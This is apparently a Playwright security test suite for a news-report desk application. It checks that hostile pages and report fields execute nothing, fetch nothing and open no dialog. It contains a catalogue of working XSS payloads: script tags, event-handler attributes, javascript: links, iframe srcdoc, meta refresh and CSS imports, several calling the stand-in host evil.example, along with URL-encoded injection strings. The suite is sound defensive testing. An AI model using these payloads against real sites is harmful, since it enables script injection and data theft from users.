"""Hostile reports in a real browser: nothing of a report is run, followed or fetched, and no dialog opens."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlalchemy as sa
from playwright.sync_api import Browser, BrowserContext, Page
from tests.browser.conftest import Desk, serving
from typer.testing import CliRunner

from dateline.cli.app import app
from dateline.ledger.book import Ledger
from dateline.ledger.schema import DOCUMENTS
from dateline.server.settings import Settings

NEWS = "Turkey shelled a village in Syria on Monday. France will send grain to Syria, the ministry said."
FAR = "http://evil.example"
# What each page would do if it were let: every one leaves a trace in `window.__ran`, calls FAR, or opens a dialog.
ATTACKS = {
    "script": f"<script>window.__ran=1;fetch('{FAR}/script')</script>",
    "source": f"<script src='{FAR}/source.js'></script>",
    "onerror": f"<img src='{FAR}/onerror.png' onerror='window.__ran=1;alert(1)'>",
    "link": "<a href='javascript:window.__ran=1;alert(1)' id='bait'>France will send grain to Syria.</a>",
    "refresh": f"<meta http-equiv='refresh' content='0;url={FAR}/refresh'>",
    "svg": "<svg onload='window.__ran=1;alert(1)'><script>window.__ran=1</script>"
           "<a xlink:href='javascript:alert(1)'>x</a></svg>",
    "form": f"<form action='{FAR}/form'><input name='q' autofocus onfocus='window.__ran=1'><button>Go</button></form>",
    "srcdoc": "<iframe srcdoc='<script>parent.__ran=1;top.__ran=1</script>'></iframe>",
    "frame": f"<iframe src='{FAR}/frame'></iframe><object data='{FAR}/object'></object><embed src='{FAR}/embed'>",
    "base": f"<base href='{FAR}/base/'><img src='relative.png'><a href='relative'>a link</a>",
    "css": f"<style>@import url({FAR}/import.css);body{{background:url({FAR}/css.png)}}</style>"
           f"<link rel='stylesheet' href='{FAR}/sheet.css'><p style='background:url({FAR}/inline.png)'>styled</p>",
    "media": f"<video src='{FAR}/a.mp4' autoplay poster='{FAR}/p.png'></video>"
             f"<audio src='{FAR}/a.mp3' autoplay></audio>",
    "details": "<details open ontoggle='window.__ran=1'><summary>x</summary></details><body onload='window.__ran=1'>",
    "template": "<template><script>window.__ran=1</script></template>"
                "<noscript><img src=x onerror='window.__ran=1'></noscript>",
    "mathml": "<math><mtext><table><mglyph>"
              "<style><img src=x onerror='window.__ran=1'></style></mglyph></table></mtext></math>",
    "prefetch": f"<link rel='preload' as='script' href='{FAR}/pre.js'><link rel='dns-prefetch' href='{FAR}'>",
    "target": "<p id='main'>same id</p><a name='__ran' href='#'>x</a><form id='location'></form><img name='cookie'>",
}
WORDS = "</p></mark><script>window.__ran=1</script><img src=x onerror='window.__ran=1'>\u202e\u0000"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A ledger of hostile pages and of reports whose every field is hostile, made as a user makes one."""
    folder = tmp_path_factory.mktemp("hostile")
    for name, attack in ATTACKS.items():
        (folder / f"{name}.html").write_text(
            f"<html><head><title>{name}{attack if name == 'script' else ''}</title>"
            f"<meta property='article:published_time' content='2031-05-05'>{attack}</head>"
            f"<body><article><h1>News</h1>{attack}<p>{NEWS}</p>{attack}<p>{NEWS} {attack}</p></article></body></html>")
    fields = {"id": WORDS, "title": WORDS, "publisher": WORDS, "published": "2031-05-05", "url": "javascript:alert(1)",
              "text": f"{NEWS} {WORDS} Turkey shelled {WORDS} a town in Syria."}
    (folder / "fields.jsonl").write_text(json.dumps(fields) + "\n")
    place = folder / "desk.db"
    done = CliRunner().invoke(app, ["code", str(folder), "--ledger", str(place)])
    assert done.exit_code == 0, done.output
    with Ledger(place) as ledger:
        ledger.link()
    return place


@pytest.fixture(scope="module")
def stand(hostile: Path) -> Iterator[Desk]:
    with serving(Settings(str(hostile), port=0)) as url:
        yield Desk(url, str(hostile))


@pytest.fixture
def watched(browser: Browser, stand: Desk) -> Iterator[tuple[Page, list[str]]]:
    """A page, and what it did that no page of the desk may do."""
    context: BrowserContext = browser.new_context(base_url=stand.url, viewport={"width": 1360, "height": 900})
    page, seen = context.new_page(), list[str]()
    page.on("dialog", lambda d: (seen.append(f"dialog {d.message}"), d.dismiss()))
    context.on("request", lambda r: None if r.url.startswith((stand.url, "data:")) else seen.append(f"request {r.url}"))
    context.on("page", lambda p: seen.append(f"window {p.url}") if p is not page else None)
    page.on("pageerror", lambda error: seen.append(f"error {error}"))
    page.set_default_timeout(10_000)
    yield page, seen
    context.close()


def numbers(desk: Desk) -> list[tuple[int, str]]:
    with desk.ledger() as ledger, ledger.reading() as connection:
        query = sa.select(DOCUMENTS.c.document_pk, DOCUMENTS.c.title).order_by(DOCUMENTS.c.document_pk)
        return [(row.document_pk, row.title or "") for row in connection.execute(query)]


def settle(page: Page) -> None:
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(150)


def harmless(page: Page) -> None:
    """Nothing ran, in no frame; nothing stands in the page that would run or lead to a script."""
    for frame in page.frames:
        assert frame.evaluate("() => typeof window.__ran") in ("undefined", "object"), frame.url  # object: by its name
        found = frame.evaluate("""() => [...document.querySelectorAll("*")].flatMap(e => [...e.attributes]
            .filter(a => /^on/i.test(a.name) || (/^(href|src|action|xlink:href|formaction)$/i.test(a.name)
                     && /^\\s*(javascript|vbscript|data:text)/i.test(a.value)))
            .map(a => `${e.tagName} ${a.name}=${a.value}`))""")
        assert found == [], frame.url
        assert frame.locator("object, embed, base, meta[http-equiv=refresh]").count() == 0


def test_the_attacks_work_where_nothing_stops_them(browser: Browser, tmp_path: Path) -> None:
    """Else the tests below would prove nothing."""
    page, seen = browser.new_page(), list[str]()
    page.on("dialog", lambda d: (seen.append(d.message), d.dismiss()))
    for name in ("script", "onerror", "svg", "srcdoc", "details"):
        bare = tmp_path / f"{name}.html"
        bare.write_text(f"<html><body>{ATTACKS[name]}</body></html>")
        page.goto(bare.as_uri())
        page.wait_for_function("() => window.__ran === 1")
    assert len(seen) >= 2
    page.close()


def test_the_ledger_holds_the_attacks(stand: Desk) -> None:
    assert len(numbers(stand)) >= len(ATTACKS)
    with stand.ledger() as ledger:
        assert len(ledger.statements("actor=TUR")) >= len(ATTACKS)


def test_no_report_runs_anything_in_the_reader(watched: tuple[Page, list[str]], stand: Desk) -> None:
    page, seen = watched
    for pk, title in numbers(stand):
        page.goto(f"/reports/{pk}")
        page.get_by_text("shelled").first.wait_for()
        page.keyboard.press("j")
        page.keyboard.press("e")
        settle(page)
        harmless(page)
        assert page.url.startswith(stand.url) and seen == [], (title, seen)


def test_the_page_as_it_was_seen_runs_nothing(watched: tuple[Page, list[str]], stand: Desk) -> None:
    """Inside the desk, and opened by itself."""
    page, seen = watched
    paths = page.request.get("/api/openapi.json").json()["paths"]
    if "/api/reports/{pk}/page" not in paths:
        pytest.skip("the desk shows no pages as they were seen")
    shown = 0
    for pk, title in numbers(stand):
        answer = page.request.get(f"/api/reports/{pk}/page")
        assert answer.status in (200, 404), title
        if answer.status == 404:
            continue
        shown += 1
        policy = answer.headers["content-security-policy"]
        assert "sandbox" in policy and "script-src" not in policy.replace("script-src 'none'", ""), policy
        assert "default-src 'none'" in policy
        for path in (f"/reports/{pk}?view=page", f"/api/reports/{pk}/page"):
            page.goto(path)
            settle(page)
            harmless(page)
            for bait in page.main_frame.child_frames or [page.main_frame]:
                for link in bait.locator("a").all()[:3]:
                    link.click(force=True, timeout=2_000, no_wait_after=True)
            settle(page)
            assert page.url.startswith(stand.url) and seen == [], (title, seen)
    assert shown >= len(ATTACKS) // 2


def test_no_other_screen_runs_anything(watched: tuple[Page, list[str]], stand: Desk) -> None:
    page, seen = watched
    screens = re.findall(r'path: "(\w+)"', (Path(__file__).parents[2] / "web/src/screens.ts").read_text())
    assert len(screens) > 5
    for path in screens:
        page.goto(f"/{path}")
        settle(page)
        harmless(page)
        assert page.url.startswith(stand.url) and seen == [], (path, seen)


@pytest.mark.parametrize("q", [
    "?q=%3Cscript%3Ewindow.__ran%3D1%3C/script%3E", "?q=%3Cimg%20src%3Dx%20onerror%3Dwindow.__ran%3D1%3E",
    "?q=javascript:alert(1)", "/%3Cscript%3Ewindow.__ran%3D1%3C%2Fscript%3E", "/%00?item=%3Cb%3E", "/%E0%A4%A",
    "/javascript:alert(1)?next=//evil.example",
    "?coder=%3Csvg%20onload%3Dalert(1)%3E",
])
def test_no_address_runs_anything(watched: tuple[Page, list[str]], stand: Desk, q: str) -> None:
    page, seen = watched
    for path in ("search", "stories", "coding"):
        page.goto(f"/{path}{q}")
        settle(page)
        harmless(page)
    assert page.url.startswith(stand.url) and seen == []


def test_another_page_cannot_use_the_desk(browser: Browser, stand: Desk, tmp_path: Path) -> None:
    """A page of another origin tries to read, to change, and to frame the desk."""
    context = browser.new_context()
    page = context.new_page()
    foreign = tmp_path / "foreign.html"
    foreign.write_text(f"<html><body><iframe src='{stand.url}/search'></iframe></body></html>")
    page.goto(foreign.as_uri())
    settle(page)
    assert not any(frame.url.startswith(stand.url) and frame.locator("nav").count() for frame in page.frames)
    tried = page.evaluate("""async (url) => {
        const tell = (what, how) => fetch(`${url}/api/${what}`, how).then(
            r => `${r.type} ${r.status}`, () => "refused");
        const change = {method: "POST", body: "{}"};
        return [await tell("statements"), await tell("links", {...change, mode: "no-cors"}),
                await tell("links", {...change, headers: {"Content-Type": "application/json"}})];
    }""", stand.url)
    assert tried in (["refused"] * 3, ["refused", "opaque 0", "refused"])  # opaque: sent, refused, and not readable
    context.close()
